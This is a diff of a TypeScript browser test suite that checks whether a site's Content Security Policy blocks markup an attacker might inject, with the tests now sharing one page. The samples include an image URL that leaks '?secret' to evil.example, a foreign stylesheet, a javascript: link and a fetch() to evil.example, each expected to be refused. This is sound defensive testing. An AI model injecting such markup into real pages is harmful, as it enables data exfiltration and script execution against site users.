@@ -1,5 +1,5 @@
 import type { Page } from 'playwright-core';
-import { describe, expect, test } from 'vitest';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { type BrowserSession, openBrowserSession, openPage } from '../support/browser.ts';
 import { submitLogin } from '../support/creator-dashboard.ts';
 import { createCreator, createProduct } from '../support/fixtures.ts';
@@ -80,15 +80,18 @@ test('a toast has its styles without violating the policy', async () => {
 });
 
 describe('what an attacker adds to a page', () => {
+  // The tests share a page, because a new document has none of the additions of the one before.
+  let session: Awaited<ReturnType<typeof openMonitoredPage>>;
+  beforeAll(async () => void (session = await openMonitoredPage()));
+  afterAll(async () => await session.close());
+
   /** Adds the markup as a script of the page would, and returns what the browser refused. */
-  async function inject(
-    add: (page: Page) => Promise<unknown>,
-  ): Promise<{ page: Page; violations: string[]; close: () => Promise<void> }> {
-    const { page, listViolations, close } = await openMonitoredPage();
+  async function inject(add: (page: Page) => Promise<unknown>): Promise<{ page: Page; violations: string[] }> {
+    const { page, listViolations } = session;
     await page.goto(`${server.url}/help`);
     await add(page);
     await expect.poll(async () => (await listViolations()).length).toBeGreaterThan(0);
-    return { page, violations: await listViolations(), close };
+    return { page, violations: await listViolations() };
   }
   const didRun = async (page: Page): Promise<boolean> => await page.evaluate(() => 'didRun' in globalThis);
 
@@ -103,18 +106,17 @@ describe('what an attacker adds to a page', () => {
     ['a stylesheet of another site', 'style-src-elem', '<link rel="stylesheet" href="https://evil.example/x.css">'],
     ['an image of another site', 'img-src', '<img src="https://evil.example/?secret">'],
   ])('%s is refused', async (_name, directive, html) => {
-    const { page, violations, close } = await inject(async (target) => {
+    const { page, violations } = await inject(async (target) => {
       await target.evaluate((markup) => {
         const content = document.createRange().createContextualFragment(markup);
         (markup.startsWith('<base') ? document.head : document.body).append(content);
       }, html);
     });
     expect([violations[0]?.split(' ')[0], await didRun(page)]).toEqual([directive, false]);
-    await close();
   });
 
   test('a style element changes nothing', async () => {
-    const { page, violations, close } = await inject(async (target) => {
+    const { page, violations } = await inject(async (target) => {
       await target.evaluate(() => {
         const style = document.createElement('style');
         style.textContent = 'h1 { display: none }';
@@ -123,11 +125,10 @@ describe('what an attacker adds to a page', () => {
     });
     expect(violations[0]).toMatch(/^style-src-elem/);
     expect(await page.locator('h1').isVisible()).toBe(true);
-    await close();
   });
 
   test('a link with a script does nothing', async () => {
-    const { page, violations, close } = await inject(async (target) => {
+    const { page, violations } = await inject(async (target) => {
       await target.evaluate(() => {
         const link = document.createElement('a');
         link.href = 'javascript:globalThis.didRun = 1';
@@ -136,14 +137,12 @@ describe('what an attacker adds to a page', () => {
       });
     });
     expect([violations[0]?.split(' ')[0], await didRun(page)]).toEqual(['script-src-elem', false]);
-    await close();
   });
 
   test('a request to another site is refused', async () => {
-    const { violations, close } = await inject(async (target) => {
+    const { violations } = await inject(async (target) => {
       await target.evaluate(async () => await fetch('https://evil.example/').catch(() => undefined));
     });
     expect(violations[0]).toMatch(/^connect-src/);
-    await close();
   });
 });
